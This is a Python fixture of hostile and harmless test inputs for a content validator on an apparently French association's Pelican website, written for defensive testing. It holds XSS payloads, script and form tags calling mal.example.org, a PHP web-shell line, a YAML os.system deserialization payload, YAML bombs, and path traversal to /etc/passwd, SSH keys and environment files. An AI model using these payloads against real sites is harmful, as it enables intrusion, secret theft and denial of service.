"""What a contributed file may try, and what answers it: the code of the problem, or None where it is shown harmless.

Each case is one entry, or a few files, added to a small site that has no fault. Characters that an editor hides or
reorders are written as escapes, so that a reader of this table sees them.
"""

import unicodedata
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from itertools import chain

SUMMARY = "Une association propose ce texte, qui dit en une phrase ce que la page apprend à qui la lit."
PLACE = "news/{name}/index.fr.md"
SCRIPT = "<script>alert(1)</script>"


@dataclass(frozen=True)
class Case:
    """Files, by their path in the content folder, and the code that refuses them; None where nothing is refused.

    `shown` is what the reader of its page sees, where that must be all that was written.
    """

    name: str
    files: Mapping[str, bytes]
    code: str | None
    shown: str | None = None


def text(
    header: str = "", body: str = "Un texte.", *, title: str = "Une campagne de plus", summary: str = SUMMARY
) -> str:
    """Write a news item: its header is right but for what is added."""
    lines = [f"title: {title}", f"summary: {summary}", "date: 2025-06-05", *([header] if header else [])]
    return "\n".join(["---", *lines, "---", body, ""])


def _news(cases: Mapping[str, tuple[str, str | bytes]]) -> Iterator[Case]:
    """Make a case of each text, as a news item of its own."""
    for name, (code, written) in cases.items():
        content = written if isinstance(written, bytes) else written.encode()
        yield Case(name, {PLACE.format(name=name): content}, code or None)


def _headers(code: str, cases: Mapping[str, str]) -> Iterator[Case]:
    yield from _news({name: (code, text(header)) for name, header in cases.items()})


def _bodies(code: str, cases: Mapping[str, str]) -> Iterator[Case]:
    yield from _news({name: (code, text(body=body)) for name, body in cases.items()})


# Fields that Pelican obeys: they would move a page, replace another, publish a draft or bring in a file.
OBEYED = _headers(
    "S101",
    {
        "save-as-home": "save_as: index.html",
        "save-as-capital": "Save_as: index.html",
        "save-as-out": "save_as: ../../../etc/cron.d/x",
        "override-save-as": "override_save_as: index.html",
        "override-url": "override_url: /",
        "url": "url: /obtenir-de-l-aide/",
        "url-script": "url: javascript:alert(1)",
        "slug": "slug: obtenir-de-l-aide",
        "template": "template: ../../pelicanconf",
        "template-index": "template: index",
        "content-underscore": f"_content: {SCRIPT}",
        "content": f"content: {SCRIPT}",
        "lang": "lang: en",
        "translation": "translation: true",
        "category": "category: ../../..",
        "tags": "tags: [a, b]",
        "author-list": "authors: [a, b]",
        "modified": "modified: 2099-01-01",
        "source-path": "source_path: /etc/passwd",
        "settings": "settings: {SITEURL: https://mal.example.org}",
        "class": "__class__: str",
        "private": "private: false",
        "kind": "kind: pages",
        "id": "id: obtenir-de-l-aide",
        "menu": "menu: 1",
        "helplines": "helplines: [{id: mal, call: '17'}]",
    },
)

VALUES = chain(
    _headers(
        "S103",
        {
            "status-hidden": "status: hidden",
            "status-list": "status: 'draft, published'",
        },
    ),
    _headers(
        "R201",
        {
            "author-path": "author: ../../members/asso-a",
            "author-script": f"author: '{SCRIPT}'",
        },
    ),
    _headers(
        "S110",
        {
            "own-file-out": "attachments: [../../../.env]",
            "own-file-of-another": "attachments: [../../members/asso-a/index.fr.md]",
            "own-file-absolute": "attachments: [/proc/self/environ]",
            "own-file-absolute-pdf": "attachments: [/proc/self/environ.pdf]",
            "own-file-home": "attachments: ['~/.ssh/id_rsa']",
            "own-file-backslash": "attachments: ['..\\..\\secret.pdf']",
            "own-file-coded": "attachments: ['%2e%2e%2fsecret.pdf']",
            "own-file-address": "attachments: ['https://mal.example.org/a.pdf']",
            "own-file-attach": "attachments: ['{attach}../../.env']",
            "own-file-dot": "attachments: ['.']",
            "own-file-nul": 'attachments: ["a\\0.pdf"]',
            "own-file-endless": f"attachments: [{'a' * 300}.pdf]",
            "own-file-endless-in-bytes": f"attachments: [{'é' * 200}.pdf]",
        },
    ),
)

# What YAML can do besides fields and values.
YAML = _news(
    {
        "yaml-bomb": (
            "S005",
            "---\n"
            "a: &a [x, x, x, x, x, x, x, x, x]\n"
            + "".join(f"{b}: &{b} [{', '.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
            + "---\nUn texte.\n",
        ),
        "yaml-merge": ("S005", text("people: [&p {name: A, office: B}, {<<: *p}]")),
        "yaml-merge-key": ("S101", text("<<: {status: draft}")),
        "yaml-python": ("S103", text('status: !!python/object/apply:os.system ["true"]')),
        "yaml-python-name": ("S101", text("x: !!python/name:os.system")),
        "yaml-tag": ("", text("status: !mal published")),
        "yaml-binary": ("S103", text("status: !!binary ZHJhZnQ=")),
        "yaml-twice": ("S004", text("status: draft\nstatus: published")),
        "yaml-deep": ("S003", text("people: " + "[" * 5_000 + "]" * 5_000)),
        "yaml-deep-blocks": ("S003", text("people:\n" + "\n".join(f"{'  ' * n}a{n}:" for n in range(1, 60)))),
        "yaml-two-documents": ("S003", "---\ntitle: a\n--- b\ntitle: c\n---\n"),
        "yaml-directive": ("S003", "---\n%YAML 9.9\ntitle: a\n---\nUn texte.\n"),
        "yaml-list": ("S002", "---\n- title\n- summary\n---\nUn texte.\n"),
        "yaml-one-word": ("S002", "---\ntitre\n---\nUn texte.\n"),
        "yaml-complex-key": ("S101", text("? [a, b]\n: c")),
        "yaml-tab": ("S003", text("people:\n\t- name: A")),
        "yaml-open-quote": ("S020", text('place: "ouvert')),
        "yaml-open-flow": ("S003", text("attachments: [a, b")),
        "yaml-number-as-title": ("", text(title="0x41414141")),
        "yaml-no-as-title": ("", text(title="no")),
        "no-header": ("S002", "Un texte sans en-tête.\n"),
        "pelican-header": ("S002", "Title: Une campagne\nDate: 2025-06-05\nSave_as: index.html\n\nUn texte.\n"),
        "header-left-open": ("S002", "---\ntitle: a\nUn texte.\n"),
        "empty": ("S002", ""),
    }
)

HTML = chain(
    _bodies(
        "X101",
        {
            "html-script": SCRIPT,
            "html-script-capital": "<SCRIPT SRC=//mal.example.org/x.js></SCRIPT>",
            "html-script-open": "<script>alert(1)",
            "html-script-slash": "<script/src=//mal.example.org/x.js>",
            "html-script-nested": "<scr<script>ipt>alert(1)</script>",
            "html-script-in-a-word": f"Un{SCRIPT}texte",
            "html-script-lines": "<script\n>alert(1)</script\n>",
            "html-image": "<img src=x onerror=alert(1)>",
            "html-image-slashes": "<img/src=x/onerror=alert(1)>",
            "html-image-open": "<img src=x onerror=alert(1)",
            "html-svg": "<svg onload=alert(1)>",
            "html-svg-script": "<svg><script>alert(1)</script></svg>",
            "html-math": "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
            "html-frame": "<iframe src=https://mal.example.org></iframe>",
            "html-frame-document": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
            "html-object": "<object data=javascript:alert(1)></object>",
            "html-embed": "<embed src=javascript:alert(1)>",
            "html-form": "<form action=https://mal.example.org><input name=nom></form>",
            "html-button": "<button formaction=javascript:alert(1)>x</button>",
            "html-style": "<style>body { display: none }</style>",
            "html-style-attribute": '<p style="position:fixed;inset:0">x</p>',
            "html-link": "<link rel=stylesheet href=https://mal.example.org/x.css>",
            "html-refresh": "<meta http-equiv=refresh content='0;url=https://mal.example.org'>",
            "html-base": "<base href=https://mal.example.org/>",
            "html-details": "<details open ontoggle=alert(1)>x</details>",
            "html-video": "<video src=x onerror=alert(1)></video>",
            "html-body": "<body onload=alert(1)>",
            "html-template": "<template><script>alert(1)</script></template>",
            "html-noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
            "html-custom-element": "<x-mal onclick=alert(1)>x</x-mal>",
            "html-comment": "<!-- <script>alert(1)</script> -->",
            "html-comment-condition": "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "html-doctype": "<!DOCTYPE html>",
            "html-instruction": "<?php system($_GET['x']); ?>",
            "html-cdata": "<![CDATA[<script>alert(1)</script>]]>",
            "html-end": "</main></body></html>",
            "html-anchor": "<a href=javascript:alert(1)>x</a>",
            "html-paragraph": "<p>Un paragraphe</p>",
            "html-in-a-list": f"- un\n- {SCRIPT}",
            "html-in-a-table": f"| a | b |\n| - | - |\n| {SCRIPT} | c |",
            "html-in-a-quotation": f"> {SCRIPT}",
            "html-in-a-title": f"## {SCRIPT} {{#a}}",
            "html-in-emphasis": f"*{SCRIPT}*",
            "html-in-a-link": f"[{SCRIPT}](https://www.example.org)",
            "html-after-code": f"`code` {SCRIPT}",
            "html-after-a-fence-in-a-line": f"texte ``` {SCRIPT}",
            "html-behind-a-backslash": "\\<img src=x onerror=alert(1)>",
        },
    ),
    _bodies(
        "",
        {
            "html-entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
            "html-entities-in-numbers": "&#60;img src=x onerror=alert(1)&#62;",
            "html-in-code": f"`{SCRIPT}`",
            "html-in-a-fence": f"```html\n{SCRIPT}\n```",
        },
    ),
    _news(
        {
            "html-in-the-title": ("", text(title=f'"{SCRIPT}"')),
            "html-that-ends-the-title": ("", text(title='"</title><script>alert(1)</script>"')),
            "html-that-ends-an-attribute": ("", text(summary=f"'{SUMMARY}\"><script>alert(1)</script>'")),
            "template-in-the-title": ("", text(title="\"{{ 7 * 7 }}{% include 'base.html' %}\"")),
        }
    ),
    _bodies("", {"template-in-the-text": "{{ config }} {% include '/etc/passwd' %} ${7*7}"}),
)

ADDRESSES = chain(
    _bodies(
        "X102",
        {
            "link-script": "[x](javascript:alert(1))",
            "link-script-capital": "[x](JaVaScRiPt:alert(1))",
            "link-script-comment": "[x](javascript://www.example.org/%0Aalert(1))",
            "link-script-in-brackets": "[x](<javascript:alert(1)>)",
            "link-script-coded": "[x](javascript%3Aalert(1):)",
            "link-script-entity": "[x](&#106;avascript:alert(1))",
            "link-script-entity-name": "[x](javascript&colon;alert(1):)",
            "link-vbscript": "[x](vbscript:msgbox(1))",
            "link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "link-file": "[x](file:///etc/passwd)",
            "link-blob": "[x](blob:https://www.example.org/1)",
            "link-about": "[x](about:blank)",
            "link-source": "[x](view-source:https://www.example.org)",
            "link-intent": "[x](intent://mal#Intent;scheme=https;end)",
            "link-http": "[x](http://www.example.org)",
            "link-ftp": "[x](ftp://www.example.org)",
            "link-ftp-alone": "<ftp://www.example.org>",
            "link-user": "[la préfecture](https://interieur.gouv.fr@mal.example.org/)",
            "link-password": "[x](https://a:b@mal.example.org/)",
            "link-no-host": "[x](https:///etc/passwd)",
            "link-no-dots": "[x](https://localhost/)",
            "link-one-slash": "[x](https:/mal.example.org)",
            "link-backslash": "[x](https:\\\\mal.example.org)",
            "link-dial-code": "[x](tel:*%2306%23)",
            "link-mail-with-copies": "[x](mailto:a@example.org?bcc=b@example.org)",
            "link-message": "[x](sms:3615)",
            "link-pelican-attach": "[x]({attach}:../../.env)",
        },
    ),
    _bodies(
        "R204",
        {
            "link-other-host": "[x](//mal.example.org)",
            "link-path": "[x](/../../../etc/passwd)",
            "link-relative": "[x](../../members/asso-a/)",
            "link-attach": "[x]({attach}../../.env)",
            "link-attach-environment": "[x]({attach}/proc/self/environ)",
            "link-static": "[x]({static}/../pelicanconf.py)",
            "link-filename": "[x]({filename}../../members/asso-a/index.fr.md)",
            "link-bars": "[x](|filename|a.md)",
            "link-empty": "[x]()",
            "link-word": "[x](mal)",
        },
    ),
    _bodies(
        "X104",
        {
            "picture": "![x](https://mal.example.org/pixel.gif)",
            "picture-script": "![x](javascript:alert(1))",
            "picture-attach": "![x]({attach}../../.env)",
            "picture-in-a-link": "[![x](https://mal.example.org/p.gif)](https://www.example.org)",
        },
    ),
    _bodies(
        "R201",
        {
            "link-unknown": "[x](members:../asso-a)",
            "link-unknown-path": "[x](pages:../../pelicanconf)",
        },
    ),
    _bodies(
        "",
        {
            "link-title-with-an-attribute": '[x](https://www.example.org "a onmouseover=alert(1)")',
            "link-attributes": "[x](https://www.example.org){: onclick=alert(1) }",
            "paragraph-attributes": "Un texte.\n{: onclick=alert(1) style=display:none }",
            "title-attributes": "## Titre {#a}\n{: onclick=alert(1) }",
            "language-that-ends-an-attribute": '*x*{lang=en" onclick="alert(1)}',
            "link-by-reference": "[x][y]\n\n[y]: javascript:alert(1)",
            "abbreviation": "*[HTML]: abréviation",
            "footnote": "Un texte[^1].\n\n[^1]: une note",
            "include": "{!pelicanconf.py!}\n\n.. include:: /etc/passwd",
            "contents": "[TOC]",
        },
    ),
)

# Characters that hide, reorder or imitate (Unicode UTS 39, UTR 36), and texts in another encoding.
CHARACTERS = chain(
    _bodies(
        "X106",
        {
            "char-escape": "Un \x1b[2J texte.",
            "char-bell": "Un\x07 texte.",
            "char-backspace": "Un\x08 texte.",
            "char-form-feed": "Un\x0c texte.",
            "char-nul": "Un\x00 texte.",
            "char-delete": "Un\x7f texte.",
            "char-c1": "Un\x9b texte.",
        },
    ),
    _bodies(
        "X107",
        {
            "char-bidi-override": "Un \u202etxet\u202c sûr.",
            "char-bidi-isolate": "Un \u2067texte\u2069 sûr.",
            "char-bidi-in-a-link": "[x](https://www.example.org/\u202egpj.exe)",
        },
    ),
    _bodies(
        "X108",
        {
            "char-zero-width": "par\u200btir",
            "char-joiner-in-a-word": "par\u200dtir",
            "char-word-joiner": "par\u2060tir",
            "char-byte-order-mark": "par\ufefftir",
            "char-tag": "partir\U000e0041\U000e0042",
            "char-filler": "par\u3164tir",
        },
    ),
    _bodies(
        "X110",
        {
            "char-private": "par\ue000tir",
            "char-non-character": "par\ufffetir",
            "char-replacement": "par\ufffdtir",
        },
    ),
    _headers("X107", {"char-bidi-in-a-field": 'no_mentions: ["Paris \\u202e"]'}),
    _headers("X108", {"char-zero-width-in-a-field": 'attachments: ["rap\\u200bport.pdf"]'}),
    _headers("X106", {"char-control-in-a-field": 'no_mentions: ["Paris \\u001b[2J"]'}),
    _news(
        {
            "char-control-in-a-title": ("X106", text(title='"Une \\u0007campagne"')),
            "char-look-alike": ("X109", text(body="Le s\u0435cours catholique.")),
            "char-look-alike-in-a-title": ("X109", text(title="C\u0421EM")),
            "char-look-alike-in-an-address": ("X109", text(body="[x](https://www.ex\u0430mple.org)")),
            "char-no-break-before-the-colon": ("S101", text("status\u00a0: draft")),
            "char-zero-width-in-a-name": ("S101", text("sta\u200btus: draft")),
            "char-cyrillic-in-a-name": ("S101", text("st\u0430tus: draft")),
            "latin-1": ("S001", text(body="Un été.").encode("latin-1")),
            "utf-16": ("S001", text(body="Un été.").encode("utf-16")),
            "utf-32": ("S001", text().encode("utf-32")),
            "utf-7": ("S002", b"+AC0---\ntitle: a\n+AC0---\n"),
            "overlong": ("S001", text().encode() + b"\xc0\xbcscript\xc0\xbe"),
            "half-a-pair": ("S001", text().encode() + b"\xed\xa0\xbd"),
            "cut-in-a-letter": ("S001", text(body="Un ét").encode() + b"\xc3"),
            "binary": ("S001", bytes(range(256))),
        }
    ),
)

# Texts made to take time or memory. Those with no code are short enough to be rendered in no time.
MANY = 9_990  # signs: the longest paragraph that is read


def _paragraphs(unit: str) -> str:
    """Repeat a unit in paragraphs as long as may be, up to the largest text that is read."""
    return "\n\n".join([unit * (MANY // len(unit.encode()))] * 9)


BOMBS = chain(
    _news(
        {
            "huge": ("X111", text(body="mot " * 1_000_000)),
            "huge-header": ("X111", text("no_mentions: " + "a" * 4_000_000)),
        }
    ),
    _bodies(
        "",
        {
            "bomb-stars": "*" * MANY,
            "bomb-stars-and-words": "*a **b " * (MANY // 7),
            "bomb-underscores": "_a " * (MANY // 3),
            "bomb-backquotes": "".join("`" * n + " " for n in range(1, 130)),
            "bomb-backquotes-open": "`a``b" * (MANY // 5),
            "bomb-backslashes": "\\" * MANY,
            "bomb-braces": "{" * MANY,
            "bomb-attributes": "{: a " * (MANY // 5),
            "bomb-spaces": "a" + " " * MANY + "b",
            "bomb-one-line": "a" * MANY,
            "bomb-digits": "1 " * (MANY // 2),
            "bomb-at": "a@" * (MANY // 2),
            "bomb-dots": "a." * (MANY // 2),
            "bomb-table": ("|a" * 30 + "|\n" + "|-" * 30 + "|\n" + "x\n" * 100) * 9,
            "bomb-accents": "e" + "\u0301" * 30,
            "bomb-emphasis": _paragraphs("*a* ASSA "),
            "bomb-days": _paragraphs("lundi 1 janvier "),
            "bomb-ticks-in-a-table": "\n\n".join(["a|b\n-|-\n" + '`|"' * 30] * 9),
            "bomb-ticks-that-grow": "\n\n".join(["".join("`" * n + " " for n in range(1, 130))] * 9),
            "bomb-references": _paragraphs("[a](https://www.example.org) "),
        },
    ),
    _news({"bomb-no-mentions": ("", text("no_mentions: [zz]", _paragraphs("zz ASSA ")))}),
    _bodies(
        "X122",
        {
            "bomb-paragraph": "a" * 10_001,
            "bomb-lines": "a\n\n" * 1_000,
            "bomb-link-left-open": "[a](" + " " * 95_000,
            "bomb-links-left-open": "[a](<" * 19_000,
            "bomb-pictures-left-open": "![a](" * 19_000,
            "bomb-rules": "a\n---\n" * 16_000,
            "bomb-emails": "a@b.cc " * 12_000,
        },
    ),
    _bodies("R206", {"link-around-brackets-in-brackets": "[a [b [c]] d](https://bit.ly/x)"}),
    _bodies("S122", {"bomb-underlines": "a\n---\n" * 990}),
    _bodies(
        "X123",
        {
            "bomb-wide-table": "|a" * 400 + "|\n" + "|-" * 400 + "|\n" + "x\n" * 20,
            "bomb-wider-table": "a|" * 1000 + "b\n" + "-|" * 1000 + "-\n" + "x|y\n" * 1000,
        },
    ),
    _bodies(
        "R208",
        {
            "bomb-links-unclosed": _paragraphs("[a](<"),
            "bomb-pictures-unclosed": _paragraphs("![a]("),
            "link-with-a-space-in-its-address": "[x](https://www.example.org/a b)",
            "link-with-an-attribute-in-its-title": '[x](https://www.example.org "a\\" onmouseover=\\"alert(1)")',
            "link-after-a-space": "[x] (https://www.example.org)",
            "link-left-open": "[x](https://www.example.org",
            "link-without-words": "[](https://www.example.org)",
            "link-with-a-space-for-words": "[ ](https://www.example.org)",
        },
    ),
    _bodies("X108", {"bomb-direction-marks": "\u200e" * 31_000, "bomb-tags-of-flags": "\U000e0041" * 23_000}),
    _bodies("P101", {"bomb-emails-apart": _paragraphs("a@b.cc ")}),
    _bodies(
        "X112",
        {
            "bomb-brackets": "[" * MANY,
            "bomb-brackets-closed": "[" * (MANY // 2) + "]" * (MANY // 2),
            "bomb-links": "[a](" * (MANY // 4),
            "bomb-parentheses": "[a](" + "(" * MANY,
            "bomb-quotations": "> " * 4_000 + "a",
            "bomb-lists": "\n".join(f"{'    ' * n}- a" for n in range(60)),
        },
    ),
    _bodies("X101", {"bomb-angles": "<a" * (MANY // 2), "bomb-tags": "<b>" * 2_000}),
)

# What tells where somebody is: written so that a pattern misses it, and texts that only look like it.
PRIVATE = chain(
    _bodies(
        "P101",
        {
            "email-bold": "**nom**@example.org",
            "email-bold-host": "nom@**example.org**",
            "email-code": "nom`@`example.org",
            "email-spaces": "nom @ example.org",
            "email-a": "nom(a)example.org",
            "email-said": "nom arrobase example.org",
            "email-said-in-entities": "nom &lt;at&gt; example.org",
            "email-said-in-dashes": "nom -at- example -dot- org",
            "email-said-in-french": "nom chez example point org",
            "email-full-width": "nom \uff20 example.org",
            "email-backslash": "nom@example\\.org",
            "email-soft-hyphen": "nom&shy;@example.org",
        },
    ),
    _bodies(
        "P102",
        {
            "phone-after-a-dot": "Tél.01 99 00 43 21",
            "phone-compact-after-a-dot": "Port.0199004321",
            "phone-middle-dots": "01·99·00·43·21",
            "phone-bullets": "01•99•00•43•21",
            "phone-commas": "01,99,00,43,21",
            "phone-before-a-word": "01 99 00 43 21-Accueil",
            "phone-without-its-plus": "33 1 99 00 43 21",
            "phone-full-width": "\uff10\uff11 \uff19\uff19 \uff10\uff10 \uff14\uff13 \uff12\uff11",
            "phone-in-an-address": "[x](https://wa.me/33199004321)",
            "phone-italic": "_01 99 00 43 21_",
            "phone-bold-by-pairs": "**01** **99** 00 43 21",
            "phone-entity": "01&ensp;99 00 43 21",
            "phone-bomb": "01 / " * (MANY // 5),
            "phone-after-a-date": "05/06/2025 01 99 00 43 21",
        },
    ),
    _bodies(
        "",
        {
            "bomb-said": "a at " * (MANY // 5),
            "bomb-said-host": "a at a" + ".a" * (MANY // 2),
            "bomb-zeros": "0 " * (MANY // 2),
            "bomb-plus": "+3 " * (MANY // 3),
            "bomb-host": "a@a" + ".1" * (MANY // 2),
        },
    ),
)


def _place(code: str, *paths: str, content: str | None = None) -> Case:
    written = text() if content is None else content
    return Case("place " + " and ".join(paths), {path: written.encode() for path in paths}, code or None)


# Days that no calendar reaches: a year more, or an hour less, is no day.
END = f"---\ntitle: Un intrus\nsummary: {SUMMARY}\n{{}}\n---\nUn texte.\n"
CONFIRMED = (
    "membership: [{status: member, since: 2020-01-01}]\n"
    "contact: {email: a@example.org, public: true, confirmed: 9999-01-01}"
)
DONE = (
    "date: 2025-06-05\ntype: plenary\nfollow_ups: [{id: a, owners: collective, done: 9999-12-31}]\n"
    "follow_up_wording: {a: Une suite}"
)

# Files in the wrong place, and names that would take another's.
PLACES = (
    _place("S006", "news/intrus/index.fr.html"),
    _place("S006", "news/intrus/index.fr.rst", content=".. include:: /etc/passwd\n"),
    _place("S006", "news/intrus/index.fr.txt"),
    _place("S006", "news/intrus/index.fr.MD"),
    _place("S006", "news/intrus/index.fr.md.md"),
    _place("S006", "news/intrus/index.md"),
    _place("S006", "news/intrus.md"),
    _place("S006", "news/intrus/plus/index.fr.md"),
    _place("S007", "templates/intrus/index.fr.md"),
    _place("S007", "actualites/intrus/index.fr.md"),
    _place("S119", "news/intrus/index.de.md"),
    _place("S008", "news/..intrus/index.fr.md"),
    _place("S008", "news/%2e%2e/index.fr.md"),
    _place("S008", "news/Intrus/index.fr.md"),
    _place("S008", "news/in trus/index.fr.md"),
    _place("S008", "news/{{ 7 }}/index.fr.md"),
    _place("S008", "news/a'onclick=alert(1) b/index.fr.md"),
    _place("S008", "news/-rf/index.fr.md"),
    _place("S008", f"news/{unicodedata.normalize('NFD', 'été')}/index.fr.md"),
    _place("S008", "news/\u0456ntrus/index.fr.md"),
    _place("S008", "news/intrus\u202e/index.fr.md"),
    _place("S007", "intrus/secret.pdf", content="%PDF-1.4"),
    Case(
        "place a page at the address of a list",
        {"pages/intrus/index.fr.md": b"---\ntitle: Un intrus\nslug: actualites\n---\nUn texte.\n"},
        "S112",
    ),
    Case(
        "place a page at the home of the other language",
        {"pages/intrus/index.fr.md": b"---\ntitle: Un intrus\nslug: en\n---\nUn texte.\n"},
        "S112",
    ),
    Case(
        "place a second home page",
        {"pages/intrus/index.fr.md": b"---\ntitle: Un intrus\nslug: ''\n---\nUn texte.\n"},
        "S112",
    ),
    Case(
        "place a page with a path for an address",
        {"pages/intrus/index.fr.md": b"---\ntitle: Un intrus\nslug: ../../etc\n---\nUn texte.\n"},
        "S106",
    ),
    *(
        Case(f"place {name} at the end of time", {f"{kind}/intrus/index.fr.md": text.encode()}, "S123")
        for name, kind, text in (
            ("a release", "press", END.format("date: 9999-12-31T23:59+00:00")),
            ("an embargo", "press", END.format("date: 2025-06-05\nembargo: 9999-12-31T23:59-14:00")),
            ("the start of an event", "events", END.format("start: 9999-12-31")),
            ("the end of an event", "events", END.format("start: 2025-06-05\nend: 9999-12-31")),
            ("a status", "members", END.format("membership: [{status: observer, since: 9999-06-01}]")),
            ("a contact", "members", END.format(CONFIRMED)),
            ("a follow-up", "minutes", END.format(DONE)),
        )
    ),
    Case(
        "place the follow-ups' address under a meeting",
        {"minutes/suites/index.fr.md": b"---\ntitle: Un intrus\ndate: 2025-06-05\ntype: plenary\n---\nUn texte.\n"},
        "S112",
    ),
)


# Harmless, and only odd: none of these may be refused, nor changed. What is shown is what is written, unless told.
def _odd(cases: Mapping[str, str | tuple[str, str]]) -> Iterator[Case]:
    for name, case in cases.items():
        written, shown = (case, case) if isinstance(case, str) else case
        yield Case(name, {PLACE.format(name=name): text(body=written).encode()}, None, shown)


ODD = chain(
    _odd(
        {
            "odd-arabic": "\u062c\u0645\u0639\u064a\u0629 \u0645\u0646\u0627\u0647\u0636\u0629 dit : bienvenue.",
            "odd-hebrew": "\u05e2\u05de\u05d5\u05ea\u05d4 et ses partenaires.",
            "odd-cyrillic": "L’association \u041b\u0430 \u0421\u0442\u0440\u0430\u0434\u0430, à Kiev.",
            "odd-greek": "Le mot \u03bc\u03b5\u03c4\u03ac\u03bd\u03bf\u03b9\u03b1 est grec.",
            "odd-vietnamese": "M. Nguy\u1ec5n et Mme Tr\u1ea7n, élus.",
            "odd-chinese": "\u53cd\u5bf9\u4eba\u53e3\u8d29\u5356",
            "odd-persian-joiner": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
            "odd-hindi-joiner": "\u0915\u094d\u200d\u0937",
            "odd-yoruba": "\u1eccl\u1ecd\u0301run, \u1eb8gb\u1eb9\u0301",
            "odd-emoji": "Bravo \U0001f44f\U0001f3fd \u2764\ufe0f",
            "odd-emoji-family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
            "odd-emoji-flag": "\U0001f1eb\U0001f1f7",
            "odd-code-with-tags": (
                f"Écrivez `{SCRIPT}` et `<img onerror=x>`.",
                f"Écrivez {SCRIPT} et <img onerror=x>.",
            ),
            "odd-code-with-an-address": ("Jamais `javascript:alert(1)`.", "Jamais javascript:alert(1)."),
            "odd-fence-with-a-header": (
                "```yaml\n---\nsave_as: index.html\n---\n```",
                "---\nsave_as: index.html\n---\n",
            ),
            "odd-long-line": ("un mot " * 1_400 + "de la fin", "un mot " * 1_400 + "de la fin"),
            "odd-comparison": "Si 3 < 5 et 7 > 2, alors oui.",
            "odd-arrows": "Paris -> Lyon <- Nice, <3, 1 << 2",
            "odd-stars": ("5 * 3 * 2 = 30 et **gras** et _italique_", "5 * 3 * 2 = 30 et gras et italique"),
            "odd-brackets": "[sic] et [1] et (voir [ci-dessous])",
            "odd-braces": "{ici} et {{là}} et %(nom)s et {0}",
            "odd-rule": ("Avant.\n\n---\n\nAprès.", "Avant.\n\nAprès."),
            "odd-mathematics": "√2 ≈ 1,414 et ∑ x² ≤ ∞",
            "odd-typography": "«\u00a0Oui\u202f!\u00a0» – l’un… et l’autre\u00a0: n°\u00a01",
            "odd-backslashes": ("C:\\temp\\a et \\*pas gras\\*", "C:\\temp\\a et *pas gras*"),
            "odd-ampersand": "A & B, R&D, AT&T;",
            "odd-article-numbers": "Articles 225-4-1 à 225-4-9, L. 425-1, R. 425-7.",
            "odd-windows": ("Un.\r\n\r\nDeux.\r\n", "Un.\nDeux."),
            "odd-old-mac": ("Un.\r\rDeux.\r", "Un.\nDeux."),
        }
    ),
    _headers(
        "",
        {
            "odd-quoted": 'no_mentions: ["L’hôtel de ville : salle « A » #3"]',
            "odd-folded": "no_mentions:\n  - >\n    Une salle\n    de Paris",
            "odd-comment": "# un commentaire\nno_mentions: [Paris] # la salle",
            "odd-empty-field": "no_mentions:",
        },
    ),
    _news(
        {
            "odd-byte-order-mark": ("", b"\xef\xbb\xbf" + text().encode()),
            "odd-no-last-line-end": ("", text().rstrip("\n")),
            "odd-no-text": ("", text(body="")),
            "odd-title-of-one-letter": ("", text(title="À")),
            "odd-title-in-russian": (
                "",
                text(title="\u0421\u0442\u043e\u043f \u0442\u043e\u0440\u0433\u043e\u0432\u043b\u0435"),
            ),
        }
    ),
)

HOSTILE: Mapping[str, Case] = {
    case.name: case for case in chain(OBEYED, VALUES, YAML, HTML, ADDRESSES, CHARACTERS, BOMBS, PRIVATE, PLACES)
}
HARMLESS: Mapping[str, Case] = {case.name: case for case in ODD}
